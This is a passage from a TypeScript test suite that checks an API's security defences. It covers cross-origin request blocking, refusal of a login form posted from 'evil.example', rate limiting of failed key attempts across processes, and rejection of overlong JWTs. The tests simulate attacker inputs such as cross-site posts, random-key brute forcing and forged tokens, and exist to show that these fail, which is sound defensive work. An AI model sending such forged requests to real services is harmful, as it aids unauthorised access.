          { 'content-type': 'application/json', origin: 'null' },
        ]) {
          const res = await add(headers, json);
          assert.equal(res.status, 403, JSON.stringify(headers));
          assert.equal(((await res.json()) as { error: { code: string } }).error.code, 'forbidden');
        }
        assert.equal(await queue.getDelayedCount(), before);
      } finally {
        await queue.close();
      }
    });

    it('lets through same-origin requests and clients that are not browsers', async () => {
      const host = new URL(secured.baseUrl).host;
      const queue = liveQueue(orgA.sessionId);
      try {
        for (const headers of <Record<string, string>[]>[
          { 'content-type': 'application/json', origin: secured.baseUrl },
          { 'content-type': 'application/json', 'sec-fetch-site': 'same-origin', origin: `http://${host}` },
          { 'content-type': 'application/json' },
        ]) {
          const res = await add(headers, json);
          assert.equal(res.status, 200, JSON.stringify(headers));
          await (await queue.getJob(String(((await res.json()) as { job: { id: string } }).job.id)))?.remove();
        }
      } finally {
        await queue.close();
      }
    });

    it('refuses a login form posted from another site, setting no cookie', async () => {
      const res = await fetch(`${secured.baseUrl}/admin/login`, {
        method: 'POST',
        redirect: 'manual',
        headers: {
          'content-type': 'application/x-www-form-urlencoded',
          origin: 'http://evil.example',
          'x-forwarded-for': newClient(),
        },
        body: new URLSearchParams({ token: ops.tokens.manage }).toString(),
      });
      assert.equal(res.status, 403);
      assert.equal(res.headers.get('set-cookie'), null);
    });
  });

  describe('10. failed authentications and token lifetime', () => {
    const list = (token: string, client: string, baseUrl = secured.baseUrl) =>
      call('GET', `/api/v1/sessions/${orgA.sessionId}/contacts`, {
        token,
        baseUrl,
        headers: { 'x-forwarded-for': client },
      });
    const randomKey = () => `wag_${randomUUID().replaceAll('-', '').slice(0, 24)}_${'A'.repeat(43)}`;

    const freshKey = async () =>
      (await testEnv.admin.createApiKey(orgA.organizationId, `fresh-${uniq()}`, ['read'])).token;

    it('answers a client over AUTH_FAILURES_PER_MINUTE=5 with 429 before looking a key up, even a valid one, and not other clients', async () => {
      const attacker = newClient();
      for (let i = 0; i < 5; i++) assertUnauthorized(await list(randomKey(), attacker));
      const refused = await list(randomKey(), attacker);
      assertError(refused, 429, 'rate_limited');
      assert.ok(Number(refused.headers.get('retry-after')) > 0);
      const unseen = await freshKey();
      assertError(await list(unseen, attacker), 429, 'rate_limited');
      assert.equal((await list(unseen, newClient())).status, 200);
    });

    it('still verifies, for a blocked client, what needs no database read: a key this api process holds, a login JWT', async () => {
      const attacker = newClient();
      const held = await freshKey();
      assert.equal((await list(held, newClient())).status, 200, 'the api now holds this key');
      for (let i = 0; i < 5; i++) assertUnauthorized(await list(randomKey(), attacker));
      assertError(await list(randomKey(), attacker), 429, 'rate_limited');
      assert.equal((await list(held, attacker)).status, 200, 'a client sharing the address (NAT, proxy) keeps working');
      assert.equal((await list(testEnv.jwks.sign({ org: orgA.organizationId, role: 'viewer' }), attacker)).status, 200);
    });

    it('counts failures in Redis, shared by every api process', async () => {
      const peer = await testEnv.startApi({ AUTH_FAILURES_PER_MINUTE: '5' }, `api-sec-auth-peer-${uniq()}`);
      try {
        const attacker = newClient();
        for (let i = 0; i < 5; i++) assertUnauthorized(await list(randomKey(), attacker));
        assertUnauthorized(await list(randomKey(), attacker, peer.baseUrl));
        assertError(await list(await freshKey(), attacker, peer.baseUrl), 429, 'rate_limited');
      } finally {
        await peer.process.stop();
      }
    });

    it('counts by the peer address unless the peer is a trusted proxy: X-Forwarded-For does not reset the count (TRUST_PROXY=false)', async () => {
      const direct = await testEnv.startApi(
        { TRUST_PROXY: 'false', AUTH_FAILURES_PER_MINUTE: '3', REDIS_PREFIX: `${testEnv.redisPrefix}_direct` },
        `api-sec-direct-${uniq()}`,
      );
      try {
        for (let i = 0; i < 3; i++) assertUnauthorized(await list(randomKey(), newClient(), direct.baseUrl));
        assertError(await list(await freshKey(), newClient(), direct.baseUrl), 429, 'rate_limited');
      } finally {
        await direct.process.stop();
      }
    });

    it('refuses login JWTs meant to live longer than JWT_MAX_LIFETIME_S (24 h), however the lifetime is stated', async () => {
      const key = testEnv.jwks.key;
      const claims = {
        iss: testEnv.jwks.issuer,
        aud: testEnv.jwks.audience,
        sub: 'user-1',
        org: orgA.organizationId,
        role: 'owner',
      };
      const at = (token: string) => call('GET', `/api/v1/sessions/${orgA.sessionId}/contacts`, { token });
      assertUnauthorized(await at(rawJwt(key, { ...claims, iat: nowS(), exp: 1e300 })));
      assertUnauthorized(await at(rawJwt(key, { ...claims, iat: nowS(), exp: nowS() + 25 * 3600 })));
      assertUnauthorized(await at(rawJwt(key, { ...claims, exp: nowS() + 25 * 3600 })));
      assertUnauthorized(await at(rawJwt(key, { ...claims, iat: nowS() + 10 * 86400 - 60, exp: nowS() + 10 * 86400 })));
      assert.equal((await at(rawJwt(key, { ...claims, iat: nowS(), exp: nowS() + 23 * 3600 }))).status, 200);
    });
  });
});
